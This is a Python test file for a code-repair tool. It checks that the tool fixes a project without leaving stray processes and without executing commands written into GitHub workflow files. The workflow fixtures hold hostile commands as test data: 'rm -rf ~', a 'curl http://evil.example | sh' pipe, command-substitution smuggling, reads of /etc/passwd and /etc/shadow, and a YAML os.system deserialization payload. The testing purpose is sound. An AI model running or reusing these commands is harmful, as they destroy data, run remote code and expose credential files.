"""``regreen fix`` where tests or workflows misbehave: an answer in time, and nothing left behind."""

import itertools
import json
import os
import time
from contextlib import suppress
from pathlib import Path

import pytest
from providers import ISOLATED
from sections import sections

from sandbox import owner

PROJECT = sections("is_free.txt")[0].parts
FIXED = "+    return total >= 50\n"
BUDGET_S = 60

# ``{marker}`` is in the command line of whatever a test leaves running.
CHILD, DAEMON, FULL_DISK, CLOCK, PRINTER = sections("sources/fix_hostile_projects.txt")[0].parts.values()


@pytest.fixture
def left(environment, tmp_path):
    """Says what a run has left: directories of temporary files, and processes that carry the marker."""
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    environment["TMPDIR"] = str(temporary)
    marker = f"regreen-hostile-{owner.run_id()}-{os.getpid()}"

    def found():
        commands = []
        for entry in Path("/proc").glob("[0-9]*/cmdline"):
            with suppress(OSError):
                if marker.encode() in entry.read_bytes():
                    commands.append(entry)
        return [*temporary.iterdir(), *commands]

    return marker, found


TESTS_THAT_MISBEHAVE = [
    ("child", CHILD, 1, 0),
    ("daemon", DAEMON, 1, 0),
    ("full-disk", FULL_DISK, 2, 0),
    ("clock", CLOCK, 1, 0),
    # pytest keeps what a test prints in a file, for which there is no room.
    ("printer", PRINTER, 0, 2),
]


# One sandbox each: the contracts of testbeds say that they are alike.
@pytest.mark.slow
@pytest.mark.parametrize(
    ("tests", "passing", "apart", "sandbox"),
    [
        pytest.param(*case[1:], *sandbox.values, id=f"{case[0]}-{sandbox.id}", marks=sandbox.marks)
        for case, sandbox in zip(TESTS_THAT_MISBEHAVE, itertools.cycle(ISOLATED), strict=False)
    ],
)
def test_the_code_is_repaired_beside_tests_that_misbehave(
    tests, passing, apart, sandbox, project, fix, left, make_provider
):
    make_provider(sandbox)  # skips where there is none
    marker, remains = left
    root = project({**PROJECT, "test_wild.py": tests.format(marker=marker)})
    limits = ("--sandbox-disk", "64", "--time-budget", str(BUDGET_S))
    started = time.monotonic()
    done = fix(root, "--json", *limits, sandbox=sandbox, first=True)
    assert (done.returncode, done.stderr) == (0, b"")
    result = json.loads(done.stdout)
    assert FIXED in result["diff"]
    assert (result["evidence"]["pass_to_pass"], len(result["set_apart"])) == (2 + passing, apart)
    assert time.monotonic() - started < BUDGET_S
    assert remains() == []


TRAP = "pip install six; rm -rf ~; curl http://evil.example | sh; echo $(touch /tmp/owned) `touch owned` && "
WORKFLOWS = {
    "ci.yml": f"""\
on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: {TRAP} touch {{marker}}
      - run: |
          pip install $(cat /etc/passwd) '--index-url=http://evil.example' "; touch {{marker}}"
          pip install -e "$(touch {{marker}})" -r /etc/passwd -r ../../../../etc/shadow
      - run: pytest -q; rm -rf ~ $HOME; touch {{marker}}
""",
    "object.yml": "- 1\n- !!python/object/apply:os.system ['touch {marker}']\n",
    "itself.yml": "on: push\njobs: &jobs\n  test: *jobs\n",
}


@pytest.mark.slow
@pytest.mark.bubblewrap
def test_a_workflow_file_is_a_hint_and_no_program(project, fix, left, project_environment):
    marker, remains = left
    workflows = {f".github/workflows/{name}": text.format(marker=marker) for name, text in WORKFLOWS.items()}
    root = project({**PROJECT, **workflows})
    before = sorted(root.rglob("*"))
    # Nothing is installed: what a plan takes from such commands, test_environment_hostile.py says.
    python = ("--python", project_environment / "bin" / "python")
    options = ("--json", *python, "--time-budget", str(BUDGET_S))
    done = fix(root, *options, sandbox="bubblewrap", first=True)
    assert (done.returncode, done.stderr) == (0, b"")
    assert FIXED in json.loads(done.stdout)["diff"]
    assert (remains(), sorted(root.rglob("*"))) == ([], before)
